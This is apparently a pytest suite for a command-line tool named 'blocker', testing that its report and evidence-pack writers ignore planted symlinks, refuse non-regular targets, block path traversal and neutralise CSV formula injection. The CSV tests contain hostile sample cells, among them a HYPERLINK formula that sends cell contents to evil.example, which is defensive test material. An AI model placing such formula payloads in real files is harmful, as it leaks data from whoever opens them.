"""Files written on request (report --out, evidence packs) cannot be turned against the reader.

A planted symlink at any temp name or at the target is never followed; a target that is not a
regular file (a device, a FIFO, a folder, a link) is refused and left as it was; `--out -` is
standard output; CSV cells never start a formula. The CLI cases run the real `blocker` on a
real state (the scenario of tests/support/legal.py).
"""

from __future__ import annotations

import csv
import errno
import io
import itertools
import os
import stat
import subprocess
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from blocker import files, safeio
from blocker.config.load import load_config
from blocker.legal.report import FORMULA_TRIGGERS, Facts, build_row, spreadsheet_safe, to_csv
from blocker.orders.model import Order
from blocker.orders.parse import parse_order
from blocker.safeio import OutputError, output_dir, write_output
from tests.legal_samples import ALPHA
from tests.support.legal import T, blocker
from tests.support.properties import examples

pytestmark = pytest.mark.integration  # most tests here run the blocker console script

FORMATS = ("table", "json", "csv", "html")


def report_args(*extra: str) -> tuple[str, ...]:
    return ("report", "--orders", "orders", "--state-dir", "state", "--at", T, *extra)


# the writer, in process: forced temp names --------------------------------------------------


@pytest.fixture
def forced_tokens(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The random part of the next temp names, chosen by the test (then random again)."""
    tokens: list[str] = []
    real = files.token

    def token() -> str:
        return tokens.pop(0) if tokens else real()

    monkeypatch.setattr(files, "token", token)
    return tokens


def plant(folder: Path, name: str, victim: Path, kind: str) -> Path:
    path = folder / name
    if kind == "symlink":
        path.symlink_to(victim)
    elif kind == "dangling":
        path.symlink_to(folder / "nowhere")
    elif kind == "fifo":
        os.mkfifo(path)
    else:
        path.mkdir()
    return path


@pytest.mark.parametrize("kind", ["symlink", "dangling", "fifo", "dir"])
def test_a_planted_name_at_every_temp_name_tried_is_never_followed(tmp_path: Path, forced_tokens: list[str],
                                                                   kind: str) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious")
    target = tmp_path / "r.html"
    planted = [plant(tmp_path, f".r.html.{t}.tmp", victim, kind) for t in ("aa", "bb", "cc")]
    old_fixed = tmp_path / ".r.html.tmp"  # the fixed name of old versions
    old_fixed.symlink_to(victim)
    forced_tokens += ["aa", "bb", "cc"]
    write_output(target, "<html>report</html>")
    assert target.read_text() == "<html>report</html>" and stat.S_ISREG(target.lstat().st_mode)
    assert victim.read_text() == "precious"
    assert all(os.path.lexists(p) for p in planted) and old_fixed.is_symlink()
    if kind == "symlink":
        assert all(p.is_symlink() for p in planted)
    leftovers = {p.name for p in tmp_path.iterdir()} - {"victim", "r.html", ".r.html.tmp"} - {p.name for p in planted}
    assert leftovers == set()


def test_every_temp_name_taken_fails_cleanly(tmp_path: Path, forced_tokens: list[str]) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious")
    forced_tokens += ["x"] * 100
    (tmp_path / ".r.csv.x.tmp").symlink_to(victim)
    (tmp_path / "r.csv").write_text("old report")
    with pytest.raises(OutputError, match="cannot write"):
        write_output(tmp_path / "r.csv", "new")
    assert victim.read_text() == "precious" and (tmp_path / "r.csv").read_text() == "old report"


def test_a_long_target_name_still_gets_a_temp_name_under_name_max(tmp_path: Path) -> None:
    target = tmp_path / ("é" * 125 + ".csv")  # 254 bytes: a temp name with it whole would not fit
    write_output(target, "a")
    assert target.read_text() == "a" and sorted(p.name for p in tmp_path.iterdir()) == [target.name]


def test_modes_new_file_and_kept_mode_never_wider_than_0644(tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        write_output(tmp_path / "new.json", "{}")
        assert stat.S_IMODE((tmp_path / "new.json").stat().st_mode) == 0o640
        (tmp_path / "shared.csv").write_text("x")
        os.chmod(tmp_path / "shared.csv", 0o666)
        write_output(tmp_path / "shared.csv", "y")
        assert stat.S_IMODE((tmp_path / "shared.csv").stat().st_mode) == 0o644
    finally:
        os.umask(old)


def test_disk_full_mid_write_keeps_the_old_file_and_leaves_no_temp(tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "r.csv"
    target.write_text("old report")
    real_write = os.write
    calls = itertools.count()

    def write(fd: int, data: bytes) -> int:
        if next(calls) == 0:
            return real_write(fd, bytes(data[:3]))  # a short write first: it is continued
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(safeio.os, "write", write)
    with pytest.raises(OutputError, match="No space left on device"):
        write_output(target, "new report, longer")
    assert target.read_text() == "old report" and [p.name for p in tmp_path.iterdir()] == ["r.csv"]


def test_short_writes_are_continued(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real_write = os.write
    monkeypatch.setattr(safeio.os, "write", lambda fd, data: real_write(fd, bytes(data[:7])))
    write_output(tmp_path / "r.txt", "x" * 1000)
    assert (tmp_path / "r.txt").read_text() == "x" * 1000


# the pack folder, in process -------------------------------------------------------------


def test_pack_folder_appears_whole_or_not_at_all(tmp_path: Path, forced_tokens: list[str]) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    (tmp_path / ".pack.aa.tmp").symlink_to(victim)  # planted at the first temp folder name
    forced_tokens += ["aa"]
    with output_dir(tmp_path / "pack") as out:
        out.write("a/b/c.txt", "hello")
        with pytest.raises(FileExistsError):
            out.write("a/b/c.txt", "again")  # every file is new: O_EXCL
        assert not (tmp_path / "pack").exists()  # nothing at the target until complete
    assert (tmp_path / "pack" / "a" / "b" / "c.txt").read_text() == "hello"
    assert list(victim.iterdir()) == []
    with pytest.raises(RuntimeError), output_dir(tmp_path / "pack2") as out:
        out.write("x.txt", "half")
        raise RuntimeError("crash midway")
    assert not (tmp_path / "pack2").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == [".pack.aa.tmp", "pack", "victim"]


def test_pack_file_names_cannot_escape_the_folder(tmp_path: Path) -> None:
    with pytest.raises(OSError), output_dir(tmp_path / "pack") as out:
        out.write("../escaped", "x")
    assert not (tmp_path / "escaped").exists()


# the CLI: report --out and evidence --out ----------------------------------------------------


@pytest.fixture
def specials(tmp_path: Path) -> Iterator[dict[str, Path]]:
    """Targets that are not regular files, and what each must still be afterwards."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    (tmp_path / "fifo").parent.mkdir(exist_ok=True)
    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "folder").mkdir()
    (tmp_path / "link").symlink_to(victim)
    (tmp_path / "dangling").symlink_to(tmp_path / "nowhere")
    yield {"/dev/full": Path("/dev/full"), "/dev/null": Path("/dev/null"), "fifo": tmp_path / "fifo",
           "folder": tmp_path / "folder", "link": tmp_path / "link", "dangling": tmp_path / "dangling"}
    assert victim.read_text() == "precious"
    assert not (tmp_path / "nowhere").exists()


def fingerprint(path: Path) -> tuple[int, int, int, str | None]:
    st = path.lstat()
    return st.st_mode, st.st_ino, st.st_rdev, os.readlink(path) if path.is_symlink() else None


def in_process(cwd: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
               *args: str) -> tuple[int, str, str]:
    """`blocker ARGS` by its main function, in `cwd` (fast: no interpreter start-up)."""
    from blocker.cli import main as cli

    monkeypatch.chdir(cwd)
    code = cli.main(["--config", "config.yaml", *args])
    out, err = capsys.readouterr()
    return code, out, err


def test_report_refuses_every_target_that_is_not_a_regular_file(scenario: Path, specials: dict[str, Path],
                                                                monkeypatch: pytest.MonkeyPatch,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    for name, path in specials.items():
        before = fingerprint(path)
        if name in ("/dev/full", "fifo"):  # the examples of the issue, by the real command
            proc = blocker(*report_args("--format", "html", "--out", str(path)), cwd=scenario)
            assert proc.returncode == 2, (name, proc.stderr)
            assert "not a regular file" in proc.stderr and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
            assert fingerprint(path) == before, name
            assert proc.stdout == ""
        for fmt in FORMATS:
            code, out, err = in_process(scenario, monkeypatch, capsys, *report_args("--format", fmt, "--out",
                                                                                   str(path)))
            assert (code, out) == (2, ""), (name, fmt, err)
            assert fingerprint(path) == before, (name, fmt)


def test_report_to_standard_output_with_dash(scenario: Path) -> None:
    for fmt in ("table", "csv"):
        to_stdout = blocker(*report_args("--format", fmt), cwd=scenario)
        dash = blocker(*report_args("--format", fmt, "--out", "-"), cwd=scenario)
        assert dash.returncode == to_stdout.returncode == 0, dash.stderr
        if fmt != "html":  # the html report says when it was generated
            assert dash.stdout == to_stdout.stdout and dash.stdout
        assert not (scenario / "-").exists()


def test_report_out_planted_links_at_old_and_new_temp_names(copy: Path) -> None:
    victim = copy / "victim.txt"
    victim.write_text("precious")
    for name in (".r.html.tmp", ".r.html.0000000000000000.tmp", ".r.html..tmp"):
        (copy / name).symlink_to(victim)
    proc = blocker(*report_args("--format", "html", "--out", "r.html"), cwd=copy)
    assert proc.returncode == 0, proc.stderr
    assert victim.read_text() == "precious" and (copy / "r.html").read_text().startswith("<!DOCTYPE html>")
    assert not [p for p in copy.iterdir() if p.name.startswith(".r.html.") and not p.is_symlink()]
    # Replacing an existing regular report is what --out is for.
    proc = blocker(*report_args("--format", "csv", "--out", "r.html"), cwd=copy)
    assert proc.returncode == 0 and (copy / "r.html").read_text().startswith("order,court,")


def test_report_out_in_a_missing_folder_is_a_usage_error(scenario: Path) -> None:
    proc = blocker(*report_args("--out", "no/such/dir/r.txt"), cwd=scenario)
    assert proc.returncode == 2 and "cannot open its folder" in proc.stderr
    assert not (scenario / "no").exists()


def test_evidence_refuses_special_targets_and_leaves_them_alone(copy: Path, specials: dict[str, Path],
                                                                monkeypatch: pytest.MonkeyPatch,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    (copy / "empty").mkdir()
    (copy / "empty-link").symlink_to(copy / "empty")
    targets = {**{k: v for k, v in specials.items() if k != "folder"}, "empty-link": copy / "empty-link"}
    for name, path in targets.items():
        before = fingerprint(path)
        code, _out, err = in_process(copy, monkeypatch, capsys, "evidence", "alpha", "--out", str(path),
                                     "--orders", "orders", "--at", T)
        assert code == 2 and len(err.strip().splitlines()) == 1, (name, err)
        assert fingerprint(path) == before, name
    proc = blocker("evidence", "alpha", "--out", "empty-link", "--orders", "orders", "--at", T, cwd=copy)
    assert proc.returncode == 2 and "symbolic link" in proc.stderr
    assert list((copy / "empty").iterdir()) == []
    code, _out, err = in_process(copy, monkeypatch, capsys, "evidence", "alpha", "--out", "-", "--orders", "orders")
    assert code == 2 and "is a folder" in err
    # An existing empty folder is still accepted (as before), and replaced by the whole pack.
    proc = blocker("evidence", "alpha", "--out", "empty", "--orders", "orders", "--at", T, cwd=copy)
    assert proc.returncode == 0, proc.stderr
    assert (copy / "empty" / "MANIFEST.sha256").is_file()
    assert stat.S_IMODE((copy / "empty" / "verify.py").stat().st_mode) & 0o100
    check = subprocess.run(["sha256sum", "-c", "--quiet", "MANIFEST.sha256"], cwd=copy / "empty",
                           capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr
    assert not [p for p in copy.iterdir() if p.name.startswith(".empty.")]


# CSV formula injection -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def alpha() -> Order:
    order = parse_order(ALPHA.encode(), "orders/alpha.yaml", load_config(None).order_rules)
    assert isinstance(order, Order), order
    return order


def formula(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula (OWASP, with leading whitespace and the
    fullwidth and small forms of the triggers)?"""
    import unicodedata

    if cell[:1] in ("\t", "\r"):
        return True
    first = cell.lstrip()[:1]
    return bool(first) and unicodedata.normalize("NFKC", first)[:1] in FORMULA_TRIGGERS


TRIGGER_TEXT = st.one_of(
    st.text(max_size=30),
    st.builds(lambda lead, trig, rest: lead + trig + rest, st.sampled_from(["", " ", "\t", "\r", "\n", "\u3000"]),
              st.sampled_from(["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣"]), st.text(max_size=20)),
)


@settings(max_examples=examples(300), deadline=None)
@given(court=TRIGGER_TEXT, case=TRIGGER_TEXT, applicant=TRIGGER_TEXT, rule=TRIGGER_TEXT)
def test_no_csv_cell_starts_a_formula_whatever_the_order_says(alpha: Order, court: str, case: str, applicant: str,
                                                              rule: str) -> None:
    from blocker.orders.model import Lift

    order = replace(alpha, court=court, case_number=case, applicant=applicant or None,
                    lifted=Lift(alpha.window.start, rule or "x"))
    row = build_row(order, Facts(), alpha.window.start)
    text = to_csv([row])
    cells = [c for record in csv.reader(io.StringIO(text)) for c in record]
    assert not [c for c in cells if formula(c)]
    assert len(text.splitlines()) == 1 + len(order.operators)  # one record a line: nothing forged
    by_name = next(csv.DictReader(io.StringIO(text)))
    assert by_name["court"].removeprefix("'") == spreadsheet_safe(court).removeprefix("'")  # type: ignore[union-attr]


def test_csv_examples() -> None:
    assert spreadsheet_safe('=HYPERLINK("http://evil.example","click")') == '\'=HYPERLINK("http://evil.example","click")'
    assert spreadsheet_safe("  @SUM(A1)") == "'  @SUM(A1)"
    assert spreadsheet_safe("＝1+1") == "'＝1+1"
    assert spreadsheet_safe("-5 days") == "'-5 days"  # text that starts with `-` too (documented)
    assert spreadsheet_safe("\t=1") == "\\t=1"  # escaped: the cell starts with a backslash, plain text
    assert spreadsheet_safe("2091-04-11T00:00:00-05:00") == "2091-04-11T00:00:00-05:00"  # offsets untouched
    assert spreadsheet_safe("RG 91/00001") == "RG 91/00001"
    assert spreadsheet_safe(-43620.0) == -43620.0 and spreadsheet_safe(0) == 0  # numbers the tool computed


def test_csv_report_of_a_hostile_court_from_the_cli(copy: Path) -> None:
    path = copy / "orders" / "alpha.yaml"
    text = path.read_text()
    court = next(line for line in text.splitlines() if line.startswith("court:"))
    path.write_text(text.replace(court, "court: '=HYPERLINK(\"http://evil.example/?\"&A1,\"Paris\")'"))
    proc = blocker(*report_args("--format", "csv"), cwd=copy)
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    alpha_rows = [r for r in rows if r["order"] == "alpha"]
    assert alpha_rows and all(r["court"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Paris\")" for r in alpha_rows)
    assert not [c for r in rows for c in r.values() if formula(c)]
